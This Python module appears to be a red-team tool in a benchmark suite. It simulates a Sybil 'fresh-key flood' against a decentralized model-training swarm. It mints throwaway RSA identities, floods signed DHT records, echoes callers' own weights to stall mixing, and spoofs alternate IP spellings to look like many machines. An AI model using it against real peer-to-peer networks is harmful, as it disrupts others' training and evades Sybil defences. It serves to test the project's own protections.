"""The fresh-key flood (docs/threat-model.md): partner capture by identities that cost nothing.

An outsider with nothing but the .proto and free RSA keys mints a new key every ``--key-every`` seconds. Each key
gets a gRPC server of its own on one of the outsider's addresses and a signed DHT record that says it is ready at
the swarm's outer step; it answers every exchange with the caller's own slow weights (read with GetState, which
anyone may call), and it asks the honest nodes to meet (a sync meeting that says its step is due whenever suits, the
first part of draw, then meet: pairing/reserved.py), so that their round calls it for the echo. Such a payload
passes every check by construction (it *is* the caller's model), and a blend with it is a wasted round: the honest
nodes stop mixing.

All the keys are made before the clock starts (on a machine shared with the swarm the outsider must not spend the
nodes' CPU on keys) and sign their records through one DHT peer (:class:`ManyKeysSigner`). Run as
``python -m noloco_bench.echo_flood``; prints what it did as JSON.

With a long ``--key-life`` it is the *patient* Sybil: its keys stay past the standing period and try to become
established peers. With ``--spellings`` it also writes every other record's address in another spelling of the same IP
(zero-padded octets, IPv4-mapped IPv6, a name; an IPv6 address written out in full or in capitals), so that one
address would count as many machines to a reader that weighed the strings peers write (noloco_node/addresses.py:
readers refuse such records). Its hosts may be IPv6 addresses too (many networks of one site's prefix, bench
outsider --namespaces): keys there call in at the IPv6 address ``--ipv6-of`` gives for a node's IPv4 one (the
nodes announce IPv4 and listen on both), or only answer when it gives none.
"""

from __future__ import annotations

import ipaddress
import json
import os
import random
import signal
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Sequence
from dataclasses import replace

import grpc
import hivemind
import torch
from hivemind.dht.crypto import RSASignatureValidator
from hivemind.dht.validation import DHTRecord
from hivemind.utils.timed_storage import get_dht_time

from noloco_bench.outsider import (
    Relays,
    Target,
    attacker_arguments,
    download_phi,
    fresh_identity,
    meeting_outgoing,
    send_exchange,
    targets_from_status_files,
    theta_names,
)
from noloco_node.addresses import host_of_address, record_address
from noloco_node.config.models import ModelConfig, model_config_for
from noloco_node.discovery.buckets import Bucket
from noloco_node.discovery.dht import PeerRecord, owner_subkey
from noloco_node.observability.status_file import read_status_document
from noloco_node.rpc.client import ExchangeError, Outgoing
from noloco_node.rpc.contracts import AdmitsEverything
from noloco_node.rpc.metrics import ExchangeMetrics
from noloco_node.rpc.service import start_server
from noloco_node.rpc.transport import Transport
from noloco_node.security.caller_proof import CallerVerifier
from noloco_node.security.identity import NodeIdentity
from noloco_node.wire import peer_pb2 as pb
from noloco_node.wire.frames import MEETING, PayloadKind, TensorLayout, build_manifest, iter_frames, verdict_frame
from noloco_node.wire.payload import Payload
from noloco_node.wire.receive_buffers import ReceiveBuffers

FLOOD_LEVELS = range(5)  # a flood's levels (discovery/buckets.py): a few hundred keys lift a small swarm to level 3-4


class ManyKeysSigner(RSASignatureValidator):
    """hivemind's record validator, signing each record with whichever of ``identities`` owns its subkey: one DHT
    peer publishes the records of every key (hivemind keeps one RSASignatureValidator per DHT, this one)."""

    def __init__(self, identities: Sequence[NodeIdentity]) -> None:
        super().__init__(identities[0].private_key)
        signers = [RSASignatureValidator(identity.private_key) for identity in identities]
        prefix, suffix = self.PUBLIC_KEY_FORMAT.split(b"_key_")  # "[owner:" + the key + "]"
        self._signers = {s.local_public_key[len(prefix) : -len(suffix)]: s for s in signers}

    def sign_value(self, record: DHTRecord) -> bytes:
        for owner in self._PUBLIC_KEY_RE.findall(record.key) + self._PUBLIC_KEY_RE.findall(record.subkey or b""):
            signer = self._signers.get(owner)
            if signer is not None:
                return signer.sign_value(record)
        return record.value


class EchoServer(AdmitsEverything):
    """One key's gRPC service: every exchange is answered with the caller's own slow weights."""

    wire_dtype = "bf16"

    def __init__(self, identity: NodeIdentity, model_cfg: ModelConfig, fingerprint: str, echo: Callable) -> None:
        self.identity = identity
        self.model_cfg = model_cfg
        self._fingerprint = fingerprint
        self._echo = echo  # caller's peer id -> its (outer step, phi), or None
        self.receive_buffers = ReceiveBuffers(max_idle_bytes=0)
        self.served: Counter[str] = Counter()

    @property
    def run_fingerprint(self) -> str:
        return self._fingerprint

    @property
    def peer_id(self) -> str:
        return self.identity.peer_id

    def expected_layout(self) -> list[TensorLayout]:
        return [TensorLayout(name, shape) for name, shape in theta_names(self.model_cfg)]

    def payload_kinds(self) -> list[PayloadKind]:
        return [MEETING, *super().payload_kinds()]

    def max_payload_bytes(self) -> int:
        return 1 << 31

    def info(self) -> pb.InfoReply:
        return pb.InfoReply(peer_id=self.peer_id, run_fingerprint=self._fingerprint)

    def state_snapshot(self) -> None:
        return None

    def open_session(self, partner_id: str, partner_outer_step: int, kind: str) -> EchoSession | None:
        known = self._echo(partner_id)
        if known is None:
            self.served["no_weights_yet"] += 1
            return None
        step, phi = known
        if kind == MEETING.name:  # yes to every meeting: the caller's round will call it
            return EchoSession(self, meeting_outgoing(self._fingerprint, self.peer_id, step), "met")
        named = [(name, tensor) for (name, _), tensor in zip(theta_names(self.model_cfg), phi, strict=True)]
        manifest = build_manifest(
            named, wire_dtype="bf16", run_fingerprint=self._fingerprint, peer_id=self.peer_id, outer_step=step
        )
        return EchoSession(self, Outgoing(manifest, [t for _, t in named]), "echoed")


class EchoSession:
    def __init__(self, server: EchoServer, outgoing: Outgoing, counted_as: str) -> None:
        self.server = server
        self._outgoing = outgoing
        self.counted_as = counted_as

    def outgoing(self) -> Outgoing:
        return self._outgoing

    def complete(self, payload: Payload) -> bool:
        self.server.served[self.counted_as] += 1
        payload.release()
        return True

    def release(self) -> None:
        return None


class EchoFlood:
    """The flood, from ``hosts`` (loopback addresses of the outsider's own), until ``stop``."""

    def __init__(
        self,
        targets_now: Callable[[], list[Target]],
        model_cfg: ModelConfig,
        *,
        initial_peers: Sequence[str],
        hosts: Sequence[str],
        key_every: float,
        key_life: float,
        keys: int,
        call_in: bool = True,
        spellings: bool = False,
        ipv6_of: dict[str, str] | None = None,
    ) -> None:
        self.targets_now = targets_now
        self.model_cfg = model_cfg
        self.hosts = list(hosts)
        self.key_every, self.key_life = key_every, key_life
        self.call_in = call_in
        self.spellings = spellings
        self.ipv6_of = ipv6_of or {}  # a node's IPv4 address -> its IPv6 one, where its IPv6 keys call it
        self._keys = [fresh_identity() for _ in range(keys)]
        self._reader = fresh_identity()  # reads the honest nodes' weights with GetState, as anyone may
        self.dht = hivemind.DHT(
            initial_peers=list(initial_peers),
            host_maddrs=[f"/ip4/{hosts[0]}/tcp/0"],  # its first address: reachable wherever its records are
            record_validators=[ManyKeysSigner(self._keys)],
            # Its p2pd runs at nice 19 like the flood: on a machine busy with a test suite, hivemind's default 15 s
            # for the daemon to come up ran out once.
            startup_timeout=60,
            start=True,
        )
        self._weights: dict[str, tuple[int, list[torch.Tensor]]] = {}
        self._live: list[tuple[NodeIdentity, str, grpc.Server, EchoServer, float]] = []
        self._relays = Relays()
        self._stop = threading.Event()
        self._lock = threading.Lock()
        self.report: Counter[str] = Counter()
        self.peer_ids: list[str] = []
        self._threads: list[threading.Thread] = []

    def start(self, ready_within: float = 60.0) -> float:
        """Read every target's weights first (at most ``ready_within`` s), then flood; returns when the flood began
        (Unix time). Keys minted before the flood can echo anything would only fail their calls: under a full test
        suite's load, at the lowest priority, the first reads took longer than a whole window once."""
        self._start(self._read_weights)
        deadline = time.monotonic() + ready_within
        while time.monotonic() < deadline and not self._stop.is_set():
            with self._lock:
                if {t.peer_id for t in self.targets_now()} <= set(self._weights):
                    break
            time.sleep(0.2)
        for loop in (self._mint_keys, self._publish_records, self._call_in):
            self._start(loop)
        return time.time()

    def _start(self, loop: Callable[[], None]) -> None:
        thread = threading.Thread(target=loop, daemon=True, name=f"flood-{loop.__name__}")
        thread.start()
        self._threads.append(thread)

    def _echo(self, peer_id: str) -> tuple[int, list[torch.Tensor]] | None:
        with self._lock:
            return self._weights.get(peer_id)

    def _read_weights(self) -> None:
        while not self._stop.is_set():
            for target in self.targets_now():
                try:
                    phi = download_phi(target, self.model_cfg, self._reader, timeout=10)
                except (ExchangeError, grpc.RpcError, OSError):
                    self.report["weights_unread"] += 1
                    continue
                with self._lock:
                    self._weights[target.peer_id] = (target.outer_step, phi)
            self._stop.wait(0.5)

    def _mint_keys(self) -> None:
        for number, identity in enumerate(self._keys):
            if self._stop.is_set():
                return
            host = self.hosts[number % len(self.hosts)]
            echo = EchoServer(identity, self.model_cfg, self._fingerprint(), self._echo)
            # Its calls are proven and its payloads sealed under its own key, as an honest node's are: an honest
            # caller refuses an unsealed answer.
            server, port = start_server(
                echo,
                ExchangeMetrics(),
                bind=record_address(host, 0),
                max_calls_per_address=64,
                transport=Transport(identity=identity),
                verifier=CallerVerifier(identity.peer_id),
            )
            with self._lock:
                expires = time.monotonic() + self.key_life
                self._live.append((identity, record_address(host, port), server, echo, expires))
                self.peer_ids.append(identity.peer_id)
                expired = [entry for entry in self._live if entry[4] < time.monotonic()]
                self._live = [entry for entry in self._live if entry[4] >= time.monotonic()]
            for _, _, old_server, old_echo, _ in expired:
                self.report.update(old_echo.served)
                old_server.stop(grace=0)
            self.report["keys"] += 1
            self._stop.wait(self.key_every)

    def _fingerprint(self) -> str:
        targets = self.targets_now()
        return targets[0].run_fingerprint if targets else ""

    def _publish_records(self) -> None:
        while not self._stop.is_set():
            targets = self.targets_now()
            with self._lock:
                live = [(identity, address) for identity, address, *_ in self._live]
            if targets:
                step = max(t.outer_step for t in targets)
                for number, (identity, address) in enumerate(live):
                    if self.spellings and number % 2:  # every other key: the rest keep their canonical address
                        address = other_spelling(address, number // 2)
                    record = PeerRecord(identity.peer_id, address, targets[0].run_fingerprint, step, step * 20, True)
                    value = {**record.to_value(), "updated": get_dht_time()}
                    for level in FLOOD_LEVELS:  # its own buckets wherever a small swarm's nodes may read
                        self.dht.store(
                            Bucket.of(identity.peer_id, level).key(record.run_fingerprint),
                            value,
                            get_dht_time() + 10,
                            subkey=owner_subkey(identity),
                            return_future=True,
                        )
                    self.report["records"] += 1
            self._stop.wait(0.5)

    def _call_in(self) -> None:
        """Each live key asks each honest node to meet; a node that says yes calls it for the echo at its round."""
        while self.call_in and not self._stop.is_set():
            with self._lock:
                live = [(identity, address) for identity, address, *_ in self._live]
            # In a new order each round: a round of calls by every key takes longer than a short run, and the keys
            # made last (the IPv6 ones) would otherwise never get their turn.
            random.shuffle(live)
            for target in self.targets_now():
                known = self._echo(target.peer_id)
                for identity, address in live:
                    if known is None or self._stop.is_set():
                        break
                    source, to = host_of_address(address), target
                    if ":" in source:  # an IPv6 key calls the node's IPv6 address, if it has one
                        host, port = host_of_address(target.address), target.address.rsplit(":", 1)[1]
                        if host not in self.ipv6_of:
                            continue
                        to = replace(target, address=record_address(self.ipv6_of[host], int(port)))
                    relay = self._relays.to(to, source)
                    # Its commit goes with its meeting: it never looks at what it gets back.
                    outgoing = meeting_outgoing(target.run_fingerprint, identity.peer_id, target.outer_step)
                    frames = [*iter_frames(outgoing.manifest, outgoing.tensors), verdict_frame(commit=True)]
                    code, _ = send_exchange(relay, to, frames, identity, timeout=10)
                    self.report[f"called {code.name}"] += 1
            self._stop.wait(0.2)

    def stop(self, grace: float = 10.0) -> dict[str, object]:
        self._stop.set()
        deadline = time.monotonic() + grace
        for thread in self._threads:
            thread.join(max(0.0, deadline - time.monotonic()))
        with self._lock:
            live, self._live = self._live, []
        for _, _, server, echo, _ in live:
            self.report.update(echo.served)
            server.stop(grace=0)
        self._relays.close()
        self.dht.shutdown()
        return {"report": dict(self.report), "peer_ids": self.peer_ids}


def other_spelling(address: str, number: int) -> str:
    """``address`` (``a.b.c.d:port`` or ``[v6]:port``) in one of the spellings that dial the same socket but are not
    its canonical one: the octets zero-padded, the IPv4-mapped IPv6 form, or a name (``localhost`` for 127.0.0.1);
    an IPv6 address written out in full, or in capitals."""
    host, port = host_of_address(address), address.rsplit(":", 1)[1]
    if ":" in host:
        spellings = [f"[{ipaddress.ip_address(host).exploded}]", f"[{host.upper()}]"]
        return f"{spellings[number % len(spellings)]}:{port}"
    spellings = [".".join(f"{int(octet):03d}" for octet in host.split(".")), f"[::ffff:{host}]"]
    if host == "127.0.0.1":
        spellings.append("localhost")
    return f"{spellings[number % len(spellings)]}:{port}"


def main(argv: Sequence[str] | None = None) -> int:
    """``python -m noloco_bench.echo_flood``: the flood as a process of its own, at the lowest CPU priority."""
    parser = attacker_arguments(main.__doc__)
    parser.add_argument(
        "--hosts", default="127.0.0.2", help="comma-separated addresses of the outsider (the first one IPv4: its DHT)"
    )
    parser.add_argument("--key-every", type=float, default=3.0, help="a new key this often (s)")
    parser.add_argument("--key-life", type=float, default=30.0, help="each key serves this long (s)")
    parser.add_argument("--no-call-in", action="store_true", help="only answer, never call the honest nodes")
    parser.add_argument("--keys", type=int, help="mint this many keys (default: enough for --seconds)")
    parser.add_argument("--initial-peer", action="append", help="a DHT multiaddress of the swarm (default: the nodes')")
    parser.add_argument(
        "--spellings", action="store_true", help="write every other record's address in another spelling of its IP"
    )
    parser.add_argument(
        "--ipv6-of", default="", help="v4=v6,...: where the IPv6 keys call each node (default: they only answer)"
    )
    parser.add_argument(
        "--ready-within", type=float, default=60.0, help="at most this long (s) to read the weights it echoes"
    )
    args = parser.parse_args(argv)
    os.nice(19)
    model_cfg = model_config_for(args.model, vocab_size=args.vocab_size, max_seq_len=args.seq_len)
    # The swarm's bootstrap peers when given; else every honest node's DHT addresses (one of them may be gone).
    statuses = [read_status_document(data_dir) or {} for data_dir in args.data_dir]
    initial_peers = args.initial_peer or [maddr for status in statuses for maddr in status.get("dht_maddrs", [])]
    flood = EchoFlood(
        targets_from_status_files(args.data_dir),
        model_cfg,
        initial_peers=initial_peers,
        hosts=args.hosts.split(","),
        key_every=args.key_every,
        key_life=args.key_life,
        keys=args.keys or int(args.seconds / args.key_every) + 2,
        call_in=not args.no_call_in,
        spellings=args.spellings,
        ipv6_of=dict(pair.split("=", 1) for pair in args.ipv6_of.split(",") if pair),
    )
    done = threading.Event()
    for signum in (signal.SIGINT, signal.SIGTERM):
        signal.signal(signum, lambda *_: done.set())
    launched = time.time()
    began = flood.start(ready_within=args.ready_within)
    done.wait(args.seconds)
    print(json.dumps({**flood.stop(), "began": began, "ready_seconds": round(began - launched, 1)}))
    return 0


if __name__ == "__main__":
    exit_code = main()
    sys.stdout.flush()
    sys.stderr.flush()
    # Its daemon threads may still be inside gRPC calls (one a node holds, or a server answering): the
    # interpreter's finalization tearing them down makes grpc's core abort the process after the report is out
    # ("terminate called without an active exception"). Nothing is left to save: leave without it.
    os._exit(exit_code)
